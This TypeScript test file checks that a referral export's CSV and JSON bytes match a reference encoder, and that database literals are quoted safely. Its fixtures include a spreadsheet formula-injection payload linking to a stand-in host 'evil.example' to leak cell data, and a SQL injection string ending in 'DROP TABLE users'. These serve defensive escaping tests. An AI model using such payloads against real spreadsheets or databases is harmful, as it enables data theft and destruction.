// The export's bytes must not depend on the path that produced them. On PostgreSQL the download comes
// from one COPY encoded by the server (CSV writer, row_to_json); the definition it must equal is the
// JavaScript one it replaced: `readExportBatches` rows encoded by csv-stringify (with the options
// lib/csv.ts used) or JSON.stringify, in the same envelope. Hostile text in every text column, each
// filter, both formats — byte for byte, on both databases (on PGlite the batch path itself is checked
// against the csv-stringify reference).
import { beforeAll, describe, expect, it } from "vitest";
import { sql } from "drizzle-orm";
import { z } from "zod";
import { inlineLiterals, sqlLiteral } from "@/db/copy-out";
import { col, rowsAs } from "@/db/rows";
import { referralCampaigns, referralCodes, referralUsageLog, subscriptions, users } from "@/db/schema";

import {
  copyExportRuns,
  EXPORT_FIELDS,
  pickExportFields,
  readExportBatches,
} from "@/lib/queries/referral-export";
import { reportColumnLabel } from "@/lib/report-columns";
import { resolveReportFilters } from "@/lib/queries/referral-report-filter";
import { pickFilters, referralExportQuerySchema } from "@/lib/validation/referral-report";
import { useTestDatabase } from "@/testing/use-test-database";
import { filtersApplied, startReferralExport } from "./referral-export";
import { csvStringifyLines } from "@/testing/csv-oracle";

const testDb = useTestDatabase();
const NOW = new Date("2026-01-02T03:04:05.678Z");

// Every character CSV, the formula neutraliser or JSON escaping treats specially, and some that no
// encoder should touch.
const ODD_TEXTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  "+1 (555) 0100",
  "-2+3",
  "@SUM(A1:A9)",
  "\tTabbed",
  "\rCarriage",
  "\nNewline first",
  'She said "hi"',
  '"',
  '""',
  "Comma, Inc.",
  "Line one\nLine two",
  "Line one\r\nLine two",
  "trailing CR\r",
  "Zoë 🦄 Müller-Łukasz 中文",
  "  spaced  ",
  "back\\slash \\n \\.",
  "\\.",
  "ctrl \u0001\u0008\u000c\u001f end",
  "sep \u2028\u2029 del \u007f",
  "'apostrophe'",
  "＝fullwidth",
  "",
  "plain name",
];

beforeAll(async () => {
  const db = testDb.db;
  const referrers: number[] = [];
  for (const [i, name] of ["=1+1", 'O\'Brien "the, \\ boss"\n', "Plain Referrer"].entries()) {
    const email = [`=cmd${i}@example.com`, `o'brien,${i}@example.com`, `plain${i}@example.com`][i];
    const [u] = await db
      .insert(users)
      .values({ email, normalizedEmail: email, name, passwordHash: "x" })
      .returning({ id: users.id });
    referrers.push(u.id);
  }
  const [campaign] = await db
    .insert(referralCampaigns)
    .values({ campaignName: '=Holiday, "2025"\nsale', commissionValue: 20 })
    .returning({ id: referralCampaigns.id });
  const [code] = await db
    .insert(referralCodes)
    .values({ clientId: referrers[1], code: "ODDCODE1", canonicalCode: "0DDC0DE1", campaignId: campaign.id })
    .returning({ id: referralCodes.id });
  const [plainCode] = await db
    .insert(referralCodes)
    .values({ clientId: referrers[2], code: "PLAINCODE", canonicalCode: "P1A1NC0DE" })
    .returning({ id: referralCodes.id });
  const base = Date.parse("2025-08-01T10:00:00.123456Z");
  for (let i = 0; i < ODD_TEXTS.length * 2; i++) {
    const text = ODD_TEXTS[i % ODD_TEXTS.length];
    const email = `friend${i}${i % 3 ? "" : ',"q"'}@example.org`;
    const [referred] = await db
      .insert(users)
      .values({
        email,
        normalizedEmail: email,
        name: i < ODD_TEXTS.length ? text : `n${i} ${text}`,
        passwordHash: "x",
      })
      .returning({ id: users.id });
    if (i % 4) await db.insert(subscriptions).values({ userId: referred.id, tierId: 1 + (i % 3) });
    await db.insert(referralUsageLog).values({
      referralCodeId: i % 3 === 2 ? plainCode.id : code.id,
      referrerUserId: i % 5 === 4 ? null : referrers[i % 3],
      referredUserId: referred.id,
      codeUsed: i % 2 ? "ODDCODE1" : ODD_TEXTS[(i + 7) % ODD_TEXTS.length],
      signupIp: i % 6 === 0 ? null : i % 6 === 1 ? ODD_TEXTS[i % ODD_TEXTS.length] : `10.0.0.${i}`,
      source: (["link", "email", "sms", "qr"] as const)[i % 4],
      isFlagged: i % 7 === 0,
      commissionEligible: i % 3 !== 0,
      commissionAmountCents: i * 1_234 + (i % 2) + (i % 9 === 0 ? 5 : 0),
      commissionPaid: i % 4 === 1,
      // Pairs share an instant, so the order's id half matters too.
      usedAt: new Date(base + Math.floor(i / 2) * 86_400_000),
    });
  }

  // Commissions in other currencies on some referrals (two currencies on some, a rejected one, a KWD
  // amount with three decimals): the export's commission_other_currencies (0036's per-referral rollup).
  await db.execute(sql`
    INSERT INTO commissions (beneficiary_user_id, referral_id, level, kind, amount_cents, status, hold_until, currency)
    SELECT l.referred_user_id, l.id, 'direct', 'earning', c.cents, c.status::commission_status, now(), c.currency
      FROM referral_usage_log l
     CROSS JOIN LATERAL (VALUES ('eur', 399 + l.id % 7, CASE WHEN l.id % 3 = 0 THEN 'rejected' ELSE 'pending' END),
                                ('jpy', 500 + l.id, 'approved'),
                                ('kwd', 1250 + l.id, 'paid')) c(currency, cents, status)
     WHERE (c.currency = 'eur' AND l.id % 4 = 0) OR (c.currency = 'jpy' AND l.id % 5 = 0)
        OR (c.currency = 'kwd' AND l.id % 11 = 0)`);
  // Every combination of commission states and each review outcome, for the labels' SQL twins.
  await db.execute(sql`
    UPDATE referral_usage_log
       SET commission_mask = (id % 32)::smallint,
           review_status = (CASE WHEN NOT is_flagged THEN 'not_required'
                                 ELSE (ARRAY['pending', 'approved', 'rejected'])[1 + id % 3] END)::review_status`);
});

/** The download as the JavaScript path defines it, from the rows `readExportBatches` reads. */
async function referenceExport(query: Record<string, string>): Promise<Buffer> {
  const parsed = referralExportQuerySchema.parse(query);
  const filters = await resolveReportFilters(testDb.db, pickFilters(parsed));
  const rows = [];
  const order = { sort: parsed.sort, dir: parsed.dir };
  for await (const batch of readExportBatches(testDb.db, filters, 7, order)) rows.push(...batch);
  const fields = parsed.columns ?? EXPORT_FIELDS;
  if (parsed.format === "csv") {
    const header = parsed.columns ? parsed.columns.map(reportColumnLabel) : [...EXPORT_FIELDS];
    const body = csvStringifyLines([header, ...rows.map((r) => fields.map((f) => r[f]))]);
    return Buffer.from(`\uFEFF${body}`);
  }
  const head =
    `{"success":true,"data":{"export_date":${JSON.stringify(NOW.toISOString())},` +
    `"filters_applied":${JSON.stringify(filtersApplied(filters))},"referrals":[`;
  const body = rows.map((r, i) => `${i ? "," : ""}\n${JSON.stringify(pickExportFields(r, fields))}`).join("");
  return Buffer.from(`${head}${body}${rows.length ? "\n" : ""}],"total_records":${rows.length}}}\n`);
}

async function exported(query: Record<string, string>): Promise<Buffer> {
  const result = await startReferralExport(
    testDb.db,
    referralExportQuerySchema.parse(query),
    { actorUserId: null },
    NOW,
  );
  return Buffer.from(await new Response(result.body).arrayBuffer());
}

const FILTERS: Record<string, string>[] = [
  {},
  { start_date: "2025-08-03", end_date: "2025-08-20" },
  { commission_status: "eligible" },
  { flagged: "1" },
  { source: "email" },
  { referrer: "o'brien" },
  { referrer: '"the, \\' },
  { referrer: "=cmd" },
  { referrer: "%_\\'; DROP TABLE users; --" },
  { start_date: "2030-01-01" },
  // The table's view: its order and its chosen columns (every one, shuffled), labels as the CSV header.
  { sort: "commission", dir: "asc" },
  { sort: "signup_date", dir: "asc", referrer: "o'brien" },
  {
    sort: "commission",
    columns:
      "review,commission_status,campaign,referral_code,commission_amount,referred_name,signup_date," +
      "referrer_email,source,commission_paid,referrer_name,referred_email",
  },
  { columns: "campaign,commission_status", flagged: "1" },
];

describe("the export's bytes equal the JavaScript definition", () => {
  it("uses COPY exactly on PostgreSQL", async () => {
    const filters = await resolveReportFilters(testDb.db, { commission_status: "all", flagged: false });
    const runs = copyExportRuns(testDb.db, filters, "csv");
    expect(runs !== null).toBe(testDb.kind === "postgres");
    await runs?.return(undefined);
  });

  for (const format of ["csv", "json"] as const) {
    it.each(FILTERS)(`${format} with filters %j`, async (filters) => {
      const query = { ...filters, format };
      const expected = await referenceExport(query);
      const actual = await exported(query);
      // Compared as text first for a readable diff, then as bytes (the BOM, UTF-8 of every character).
      expect(actual.toString("utf8")).toBe(expected.toString("utf8"));
      expect(actual.equals(expected)).toBe(true);
    });
  }

  it("the data set holds what the encoders must get right", async () => {
    const csv = (await exported({ format: "csv" })).toString("utf8");
    expect(csv).toContain(',"Line one\nLine two",');
    expect(csv).toContain(",'-");
    expect(csv).toContain('"\'\rCarriage"');
    const json = JSON.parse((await exported({ format: "json" })).toString("utf8"));
    expect(json.data.total_records).toBe(ODD_TEXTS.length * 2);
    const names = json.data.referrals.map((r: { referred_name: string }) => r.referred_name);
    expect(names).toEqual(expect.arrayContaining(ODD_TEXTS));
    expect(
      json.data.referrals.some((r: { subscription_tier: string | null }) => r.subscription_tier === null),
    ).toBe(true);
  });

  it("a download cancelled after its first chunk leaves the database usable and the next export whole", async () => {
    const result = await startReferralExport(
      testDb.db,
      referralExportQuerySchema.parse({ format: "csv" }),
      { actorUserId: null },
      NOW,
    );
    const reader = result.body.getReader();
    await reader.read(); // the header
    await reader.read(); // the first rows
    await reader.cancel();
    const [row] = rowsAs(
      await testDb.db.execute(sql`SELECT count(*)::int AS n FROM referral_usage_log`),
      z.object({ n: col.int }),
    );
    expect(row.n).toBe(ODD_TEXTS.length * 2);
    expect((await exported({ format: "csv" })).equals(await referenceExport({ format: "csv" }))).toBe(true);
  });
});

describe("inlineLiterals (COPY takes no bind parameters)", () => {
  it("writes strings as standard-conforming literals and integers quoted; refuses anything else", () => {
    expect(sqlLiteral("O'Brien \\ x")).toBe("'O''Brien \\ x'");
    expect(sqlLiteral(-5)).toBe("'-5'");
    expect(() => sqlLiteral("a\0b")).toThrow(/NUL/);
    expect(() => sqlLiteral(1.5)).toThrow();
    expect(() => sqlLiteral(null)).toThrow();
    expect(() => sqlLiteral(new Date())).toThrow();
    expect(inlineLiterals(sql`SELECT ${"it's"}::text AS a, ${3}::int AS b`)).toBe(
      "SELECT  'it''s' ::text AS a,  '3' ::int AS b",
    );
  });
});
